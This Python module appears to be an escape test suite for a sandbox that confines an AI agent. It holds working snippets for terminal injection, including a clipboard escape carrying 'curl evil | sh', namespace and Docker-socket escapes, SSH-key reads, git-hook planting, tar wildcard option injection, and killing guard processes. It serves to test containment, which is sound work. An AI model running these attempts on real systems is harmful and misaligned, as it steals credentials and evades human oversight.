"""Ways out of the cell and to its neighbours."""
import json
import os
import pty
import select
import signal
import subprocess
from contextlib import contextmanager

from arms import LIMIT, PYTHON, Outcome, World, program
from case import Attempt, left, word

SECCOMP = "cell.seccomp"

# What another agent leaves lying about in its own cell.
OTHER = """
import ctypes, os, socket, sys
for path in ("/tmp/other-cell", "/dev/shm/other-cell", "/var/tmp/other-cell"):
    try:
        open(path, "w").write("CANARY")
    except OSError:
        pass
s = socket.socket(socket.AF_UNIX); s.bind(chr(0) + "other-cell"); s.listen()
libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p
at = libc.shmat(libc.shmget(0x6f746865, 4096, 0o1666), None, 0)
ctypes.memmove(at, b"CANARY", 32)
print("ready", flush=True)
import threading
def serve():
    while True:
        peer, _ = s.accept(); peer.sendall(b"CANARY"); peer.close()
threading.Thread(target=serve, daemon=True).start()
sys.stdin.read()
"""


def runs_by_a_star(outcome):
    """What becomes of it when the person packs all that the folder has."""
    at = outcome.world.workspace
    subprocess.run("tar czf ../packed.tgz *", shell=True, cwd=at, capture_output=True, timeout=60)
    return (at / "ran-later").exists()


@contextmanager
def other_cell(product, world):
    """A second session of the same person, with the canary in it, that lives as long as the attempt."""
    folder = world.base / "other"
    folder.mkdir()
    other = subprocess.Popen([product.chaperone, "run", "--workspace", str(folder), "--", PYTHON, "-c", OTHER.replace("CANARY", world.canary)],
                             env=product.env(world), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        if other.stdout.readline().strip() != "ready":
            raise OSError("the other cell did not come up")
        yield
    finally:
        other.stdin.close()
        other.wait(LIMIT)
        other.stdout.close()


def on_terminal(argv, env, source):
    """Run something on a terminal of its own: every byte that a terminal emulator would get."""
    pid, master = pty.fork()
    if pid == 0:
        os.execvpe(argv[0], [*argv, PYTHON, "-c", source], env)
    seen = b""
    while True:
        ready, _, _ = select.select([master], [], [], LIMIT)
        if not ready:
            os.kill(pid, signal.SIGKILL)
        try:
            block = os.read(master, 65536)
        except OSError:
            break
        if not block:
            break
        seen += block
    os.close(master)
    os.waitpid(pid, 0)
    return seen.decode("utf-8", "replace")


TERMINAL = """
import fcntl
for char in b"x":
    try:
        fcntl.ioctl(0, 0x5412, bytes([char]))
        print("injected")
    except OSError as e:
        print("no:", e)
sys.stdout.write("\\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\\x07\\x1b]0;title\\x07\\x1b[21t\\x1bP$q\\x1b\\\\")
print()
print("attempt made")
"""


def terminal_bare_of(case, place):
    world = World(place / "bare")
    source = program(case, world, 1, {"GUARDS": [], "ARM": "bare", "LOG": ""})
    env = world.environment()
    return Outcome(on_terminal(["bwrap", "--unshare-all", "--ro-bind", "/usr", "/usr", "--symlink", "usr/bin", "/bin", "--symlink", "usr/lib", "/lib",
                                "--symlink", "usr/lib64", "/lib64", "--proc", "/proc", "--dev", "/dev", "--chdir", "/"], env, source), world)


def terminal_cell_of(case, product, place):
    world = World(place / "cell")
    source = program(case, world, 1, {"GUARDS": [], "ARM": "cell", "LOG": ""})
    status = world.base / "status"
    text = on_terminal([product.chaperone, "run", "--workspace", str(world.workspace), "--status-file", str(status), "--ask", "deny", "--"],
                       product.env(world), source)
    session = json.loads(status.read_text())["session"]
    return Outcome(text, world, product.records(session), session, product)


TERMINAL_CASE = Attempt(59, "TIOCSTI, terminal escapes, pty", "T1674", TERMINAL, rule=SECCOMP,
                        ends="attempt made", twin=False, effect=lambda o: o.says("\x1b]52;") or o.says("\x1b]0;title") or o.says("\x1bP$q") or o.says("injected"))
TERMINAL_CASE.bare = lambda place: terminal_bare_of(TERMINAL_CASE, place)
TERMINAL_CASE.cell = lambda product, place: terminal_cell_of(TERMINAL_CASE, product, place)

ATTEMPTS = [
    TERMINAL_CASE,
    Attempt(48, "escape: namespaces and mounts", "T1611", """
done = libc.unshare(0x10020000)
for what in ("mount", ):
    if libc.mount(b"escape", W.encode(), b"tmpfs", 0, None) == 0:
        print("THE EFFECT IS THERE")
print("unshare", done, "chroot", libc.chroot(W.encode()), "setns", call(308, 0, 0), "open_by_handle", call(304, 0, 0, 0))
""", effect=word, rule=SECCOMP),
    Attempt(49, "container socket", "T1610", "ask('/run/docker.sock'); ask('/var/run/docker.sock')", rule="cell.decoy",
            bwrap=("--symlink", "{shared}/docker.sock", "/run/docker.sock")),
    Attempt(51, "session hijack", "", "ask(SHARED + '/tmux.sock'); [ask(p) for p in glob.glob('/tmp/tmux-*/default') + glob.glob('/tmp/ssh-*/agent.*')]"),
    Attempt(54, "setuid, sudo", "", """
with open(W + "/helper", "w") as f:
    f.write("#!/bin/sh\\n")
try:
    os.chmod(W + "/helper", 0o4755)
except OSError as e:
    print("no:", e)
print(subprocess.run("sudo -n id; su -c id; grep -E 'NoNewPrivs|CapEff' /proc/self/status", shell=True, text=True,
                     stdin=subprocess.DEVNULL, capture_output=True).stdout)
""", effect=lambda o: (o.world.workspace / "helper").exists() and (o.world.workspace / "helper").stat().st_mode & 0o6000 != 0),
    Attempt(56, "abstract sockets", "", "ask(chr(0) + 'neighbour-' + os.path.basename(os.path.dirname(os.path.dirname(SHARED))))"),
    Attempt(57, "other cells", "", "OTHER = " + repr(OTHER) + """
if ARM == "bare":
    other = subprocess.Popen([sys.executable, "-c", OTHER.replace("CANARY", os.environ["SECRET_TOKEN"])], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    other.stdout.readline()
show("/tmp/other-cell", "/dev/shm/other-cell", "/var/tmp/other-cell", *[f"/proc/{p}/environ" for p in processes()])
ask(chr(0) + "other-cell")
shared = libc.shmget(0x6f746865, 0, 0)
libc.shmat.restype = ctypes.c_void_p
if shared >= 0:
    print(ctypes.string_at(libc.shmat(shared, None, 0), 64))
""", beside=other_cell),
    Attempt(58, "symbolic link", "", "show(W + '/link.txt')"),
    Attempt(58, "dot dot, /proc/self/root, /proc/self/fd", "", """
show(W + "/.." + PERSON + "/private.txt", "/proc/self/root" + PERSON + "/private.txt", "/proc/1/root" + PERSON + "/private.txt",
     "/proc/self/cwd/.." + PERSON + "/private.txt")
fd = os.open("/", os.O_RDONLY)
show(f"/proc/self/fd/{fd}{PERSON}/private.txt")
for path in glob.glob("/proc/1/fd/*"):
    try:
        print("PID 1 has", os.readlink(path))
    except OSError as e:
        print("no:", path, e)
os.symlink(PERSON, W + "/way")
show(W + "/way/private.txt")
"""),
    Attempt(58, "hard link of the person's to outside", "", """
with open(W + "/hard.txt", "r+") as f:
    f.write("changed by the agent")
""", effect=lambda o: (o.world.person / "linked.txt").read_text() != "outside\n"),
    Attempt(58, "dot dot by a tool", "T1611", """
if ARM == "bare":
    show(W + "/.." + PERSON + "/private.txt")
else:
    tools = Tools()
    for path in (W + "/.." + PERSON + "/private.txt", W + "/../etc/passwd", PERSON + "/private.txt", W + "/./../.." + PERSON + "/private.txt"):
        tools.call("read_file", path=path)
""", rule="bad_path", alert=False),
    Attempt(61, "renamed binary, ld-linux", "T1552.004", """
import shutil
shutil.copy("/usr/bin/cat", "/tmp/innocent")
os.chmod("/tmp/innocent", 0o755)
for name in (HOME, PERSON):
    for run in (["/tmp/innocent"], [glob.glob("/lib64/ld-linux*")[0] if glob.glob("/lib64/ld-linux*") else "/lib/ld-linux-aarch64.so.1", "/tmp/innocent"]):
        print(subprocess.run([*run, name + "/.ssh/id_ed25519"], capture_output=True, text=True).stdout)
""", rule="cell.decoy"),
    Attempt(62, "case of a name: read", "T1552.004", "show(W + '/old.ssh/.SSH/ID_RSA')", rule="chaperone.credentials.credential_store"),
    Attempt(62, "case of a name: write", "T1546", "os.makedirs(W + '/.Git/Hooks'); open(W + '/.Git/Hooks/Pre-Commit', 'w').write('#!/bin/sh\\n')",
            effect=left(".Git/Hooks/Pre-Commit"), rule="runs_later"),
    Attempt(62, "normal form of a name", "T1036|T1546", "os.makedirs(W + '/.g\\u200cit/hooks'); open(W + '/.g\\u200cit/hooks/pre-commit', 'w').write('x')",
            effect=left(".g\u200cit/hooks/pre-commit"), rule="deceptive_name", alert=False),
    Attempt(62, "names that a program given * takes for options", "T1202|T1036", """
for name in ("--checkpoint=1", "--checkpoint-action=exec=sh notes.md"):
    open(W + "/" + name, "w").close()
with open(W + "/notes.md", "w") as f:
    f.write("touch ran-later\\n")
""", effect=runs_by_a_star, rule="option_name"),
    Attempt(63, "predictable name in /tmp", "", "show(SHARED + '/tool-1000.tmp', '/tmp/*/*/*/tool-1000.tmp')"),
    Attempt(64, "signals to others", "", """
for pid in [NEIGHBOUR, *GUARDS, 1]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as e:
        print("no:", pid, e)
if ARM == "bare" and gone(NEIGHBOUR):
    print("THE EFFECT IS THERE")
""", effect=lambda o: word(o) or not o.neighbour_lives),
]
